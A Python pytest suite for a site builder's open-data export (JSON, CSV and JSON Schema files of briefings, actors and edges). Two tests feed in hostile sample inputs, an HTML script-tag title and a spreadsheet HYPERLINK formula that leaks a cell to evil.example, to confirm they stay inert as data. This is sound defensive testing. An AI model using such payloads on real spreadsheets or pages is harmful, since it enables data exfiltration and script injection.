"""Open data (builder.site.opendata): api/*.json, their CSV twins and JSON Schemas; `export --format json`;
the files in the built site."""

from __future__ import annotations

import csv
import re
import io
import json
import random
import shutil

import jsonschema
import pytest

from builder.archive.registry_load import load_registry
from builder.archive.model import Briefing, BriefingMeta
from builder.cli import main as cli_main
from builder.site import opendata
from builder.site.export import export
from builder.site.graph import build_graph
from builder.site.load import load_site
from sitebuild import FIXTURES

SITE_URL = "https://data.example.org/"
HOSTILE_TITLE = 'Wagner <script>alert("x")</script>, "quoted"\nand a second line; with a semicolon'


@pytest.fixture(scope="module")
def registry():
    return load_registry(FIXTURES / "actors.yml")


@pytest.fixture(scope="module")
def fixture_files(registry) -> dict[str, str]:
    site = load_site(FIXTURES / "docs", FIXTURES / "actors.yml", site_url=SITE_URL)
    return {page.path: page.content for page in site.pages if page.path.startswith("api/")}


def briefing(path: str, date: str | None, actors=(), title: str = "A briefing", **fields) -> Briefing:
    return Briefing(meta=BriefingMeta(title=title, date=date, actors=tuple(actors), **fields), body="Text.\n", path=path)


def files_of(briefings, registry, **kwargs) -> dict[str, str]:
    graph = build_graph(briefings)
    return {f.path: f.content for f in opendata.api_files(registry, graph, site_url=SITE_URL, site_name="Test", **kwargs)}


def validate(document: dict, schema: dict) -> None:
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(document)


def rows_from_csv(text: str, schema: dict, table: str) -> list[dict]:
    """The CSV's rows typed by the JSON Schema (an independent reading of the conventions:
    a leading apostrophe is dropped, lists are joined with ";" and escape ";" and "\\" with a
    backslash, an empty field is null)."""
    properties = schema["properties"][table]["items"]["properties"]
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == list(properties)
    rows = []
    for record in reader:
        row = {}
        for name, value in record.items():
            kind = properties[name]["type"]
            value = value[1:] if value.startswith("'") else value
            if kind == "array":
                row[name] = [re.sub(r"\\(.)", r"\1", item) for item in re.split(r"(?<!\\);", value)] if value else []
            elif kind == "integer":
                row[name] = int(value)
            elif "null" in kind:
                row[name] = value or None
            else:
                row[name] = value
        rows.append(row)
    return rows


def test_the_api_has_three_tables_in_three_forms(fixture_files):
    assert sorted(fixture_files) == sorted(opendata.API_FILES)
    assert sorted(fixture_files) == [f"api/{t}{s}" for t in ("actors", "briefings", "edges") for s in (".csv", ".json", ".schema.json")]


@pytest.mark.parametrize("table", ["briefings", "actors", "edges"])
def test_each_json_file_validates_against_its_own_schema(fixture_files, table):
    document = json.loads(fixture_files[f"api/{table}.json"])
    schema = json.loads(fixture_files[f"api/{table}.schema.json"])
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"] == f"{SITE_URL}api/{table}.schema.json"
    validate(document, schema)
    assert document["version"] == opendata.FORMAT_VERSION
    assert document["generated_from"] == {"site_name": "Briefing Archive", "site_url": SITE_URL, "briefings": 5,
                                          "actors": 13, "newest_briefing": "2023-03-14"}
    assert document[table]


@pytest.mark.parametrize("table", ["briefings", "actors", "edges"])
def test_csv_round_trip_equals_the_json_rows(fixture_files, table):
    schema = json.loads(fixture_files[f"api/{table}.schema.json"])
    text = fixture_files[f"api/{table}.csv"]
    assert text.endswith("\r\n") and "\r\n" in text.split("\n", 1)[0] + "\n"
    assert rows_from_csv(text, schema, table) == json.loads(fixture_files[f"api/{table}.json"])[table]


def test_briefing_rows(fixture_files):
    rows = json.loads(fixture_files["api/briefings.json"])["briefings"]
    assert [r["path"] for r in rows] == sorted(r["path"] for r in rows)
    leverage = rows[0]
    assert leverage["path"] == "briefings/2021/2021-10-06-mali-wagner-leverage.md"
    assert leverage["page_url"] == SITE_URL + "briefings/2021/2021-10-06-mali-wagner-leverage/"
    assert leverage["url"].startswith("https://responsiblestatecraft.org/")
    assert leverage["date"] == "2021-10-06" and leverage["source"] == "Responsible Statecraft"
    assert {"mali", "wagner-group", "russia"} <= set(leverage["actors"])
    undated = [r for r in rows if r["path"].startswith("briefings/undated/")]
    assert undated and undated[0]["date"] is None


def test_actor_rows(fixture_files, registry):
    rows = {r["id"]: r for r in json.loads(fixture_files["api/actors.json"])["actors"]}
    assert list(rows) == sorted(a.id for a in registry.actors)  # every registry actor, by id
    mali = rows["mali"]
    assert mali["page_url"] == SITE_URL + "actors/mali/" and mali["briefings"] == 5
    assert (mali["first_mention"], mali["last_mention"]) == ("2021-10-06", "2023-03-14")
    unnamed = [r for r in rows.values() if r["briefings"] == 0]
    assert unnamed and all(r["page_url"] is None and r["first_mention"] is None for r in unnamed)
    assert rows["assimi-goita"]["aliases"] and rows["assimi-goita"]["name"] == "Assimi Goïta"


def test_edges_count_shared_briefings_like_the_graph(registry):
    site = load_site(FIXTURES / "docs", FIXTURES / "actors.yml", site_url=SITE_URL)
    edges = opendata.edge_rows(site.graph)
    assert edges == sorted(edges, key=lambda e: (e["source"], e["target"]))
    assert all(e["source"] < e["target"] for e in edges)
    for edge in edges:
        assert edge["briefings"] == site.graph.together[edge["source"]][edge["target"]]
    pairs = {(a, b) for a, counts in site.graph.together.items() for b in counts if a < b}
    assert pairs == {(e["source"], e["target"]) for e in edges}
    mali_russia = next(e for e in edges if (e["source"], e["target"]) == ("mali", "russia"))
    assert mali_russia["first_date"] == "2021-10-06" and mali_russia["last_date"] == "2023-02-08"


def test_files_are_byte_identical_for_the_same_archive_in_any_order(registry):
    briefings = [
        briefing("briefings/2023/2023-01-02-b.md", "2023-01-02", ["mali", "russia"], tags=("x", "y")),
        briefing("briefings/2022/2022-05-06-a.md", "2022-05-06", ["mali", "france", "russia"]),
        briefing("briefings/undated/c.md", None, ["russia"], summary="Ünïcode — kept."),
    ]
    first = files_of(briefings, registry)
    for seed in range(3):
        shuffled = briefings[:]
        random.Random(seed).shuffle(shuffled)
        assert files_of(shuffled, registry) == first
    assert "Ünïcode — kept." in first["api/briefings.json"] and "Ünïcode — kept." in first["api/briefings.csv"]
    assert json.loads(first["api/briefings.json"])["generated_from"]["newest_briefing"] == "2023-01-02"


def test_a_hostile_title_survives_as_data(registry):
    briefings = [briefing("briefings/2023/2023-01-02-b.md", "2023-01-02", ["mali"], title=HOSTILE_TITLE,
                          tags=("a,b", 'c"d'))]
    files = files_of(briefings, registry)
    document = json.loads(files["api/briefings.json"])
    assert document["briefings"][0]["title"] == HOSTILE_TITLE
    validate(document, json.loads(files["api/briefings.schema.json"]))
    text = files["api/briefings.csv"]
    # RFC 4180: the field is quoted, its quotes doubled, the line break kept inside the quotes.
    assert '"Wagner <script>alert(""x"")</script>, ""quoted""\nand a second line; with a semicolon"' in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2 and rows[1][1] == HOSTILE_TITLE
    assert rows_from_csv(text, json.loads(files["api/briefings.schema.json"]), "briefings") == document["briefings"]


def test_an_empty_archive_gives_valid_empty_tables(registry):
    files = files_of([], registry)
    for table in ("briefings", "edges"):
        document = json.loads(files[f"api/{table}.json"])
        validate(document, json.loads(files[f"api/{table}.schema.json"]))
        assert document[table] == [] and document["generated_from"]["newest_briefing"] is None
        assert files[f"api/{table}.csv"].count("\r\n") == 1  # the header line alone


def test_export_json_writes_exactly_the_api_files(tmp_path, fixture_files):
    out = tmp_path / "out"
    stale = out / "api" / "old.json"
    stale.parent.mkdir(parents=True)
    stale.write_text("{}", encoding="utf-8")
    keep = out / "api" / "README.txt"
    keep.write_text("not ours", encoding="utf-8")
    count = export(out, docs_dir=FIXTURES / "docs", registry_path=FIXTURES / "actors.yml", site_url=SITE_URL, format="json")
    written = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert count == 9 and written == sorted([*opendata.API_FILES, "api/README.txt"])
    for path in opendata.API_FILES:
        assert (out / path).read_bytes() == fixture_files[path].encode("utf-8")  # the site's files, byte for byte
    times = {p: (out / p).stat().st_mtime_ns for p in opendata.API_FILES}
    export(out, docs_dir=FIXTURES / "docs", registry_path=FIXTURES / "actors.yml", site_url=SITE_URL, format="json")
    assert {p: (out / p).stat().st_mtime_ns for p in opendata.API_FILES} == times  # unchanged: not rewritten
    assert not list(out.rglob("*.tmp"))


def test_the_default_export_holds_the_same_api_files_for_other_generators(tmp_path):
    """The plain docs tree (`--format pages`) publishes the open data too: docs/open-data.md links to it."""
    docs = tmp_path / "docs"
    shutil.copytree(FIXTURES / "docs", docs)
    (docs / "briefings/2022/2022-08-17-barkhane-withdrawal.md").unlink()  # its raw HTML: the plain tree refuses it
    for form in ("pages", "json"):
        export(tmp_path / form, docs_dir=docs, registry_path=FIXTURES / "actors.yml", site_url=SITE_URL, format=form)
    assert (tmp_path / "pages" / "index.md").is_file()
    for path in opendata.API_FILES:
        assert (tmp_path / "pages" / path).read_bytes() == (tmp_path / "json" / path).read_bytes()
    with pytest.raises(ValueError, match="export format 'xml'"):
        export(tmp_path / "x", docs_dir=docs, registry_path=FIXTURES / "actors.yml", format="xml")


def test_cli_export_format_json(tmp_path, capsys):
    code = cli_main(["export", "--format", "json", "--out", str(tmp_path / "out"),
                     "--docs", str(FIXTURES / "docs"), "--registry", str(FIXTURES / "actors.yml")])
    assert code == 0 and "9 open data files written" in capsys.readouterr().err
    assert sorted(p.relative_to(tmp_path / "out").as_posix() for p in (tmp_path / "out").rglob("*") if p.is_file()) == sorted(opendata.API_FILES)
    with pytest.raises(SystemExit):
        cli_main(["export", "--format", "xml", "--out", str(tmp_path / "x")])


# ------------------------------------------------------------------- in the built site


@pytest.mark.site
def test_the_built_site_publishes_the_api_files_and_they_validate(fixture_site):
    api = fixture_site.site / "api"
    assert sorted(p.name for p in api.iterdir()) == sorted(p.split("/")[1] for p in opendata.API_FILES)
    for table in ("briefings", "actors", "edges"):
        document = json.loads((api / f"{table}.json").read_text(encoding="utf-8"))
        validate(document, json.loads((api / f"{table}.schema.json").read_text(encoding="utf-8")))
    site_url = json.loads((api / "briefings.json").read_text(encoding="utf-8"))["generated_from"]["site_url"]
    # Every briefing's page_url is a page of the built site.
    for row in json.loads((api / "briefings.json").read_text(encoding="utf-8"))["briefings"]:
        assert (fixture_site.site / row["page_url"].removeprefix(site_url) / "index.html").is_file(), row["page_url"]
    # The open data page is in the navigation and links to every file.
    page = fixture_site.html("open-data/")
    for path in opendata.API_FILES:
        assert f'href="../{path}"' in page, path
    assert "Open data" in fixture_site.html("").split('class="md-nav md-nav--primary"', 1)[1]


def test_csv_neither_runs_formulas_nor_splits_list_items(registry):
    # Untrusted text: a spreadsheet must not run it; a ";" inside an item stays inside it.
    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    briefings = [briefing("briefings/2023/2023-01-02-b.md", "2023-01-02", ["mali"], title=title,
                          tags=("@SUM(1)", "a;b", "back\\slash", "'quoted"))]
    files = files_of(briefings, registry)
    rows = list(csv.reader(io.StringIO(files["api/briefings.csv"], newline="")))
    assert rows[1][1] == "'" + title
    assert not any(field.startswith(("=", "+", "-", "@")) for row in rows for field in row)
    document = json.loads(files["api/briefings.json"])
    assert document["briefings"][0]["tags"] == ["@SUM(1)", "a;b", "back\\slash", "'quoted"]
    assert rows_from_csv(files["api/briefings.csv"], json.loads(files["api/briefings.schema.json"]), "briefings") == document["briefings"]
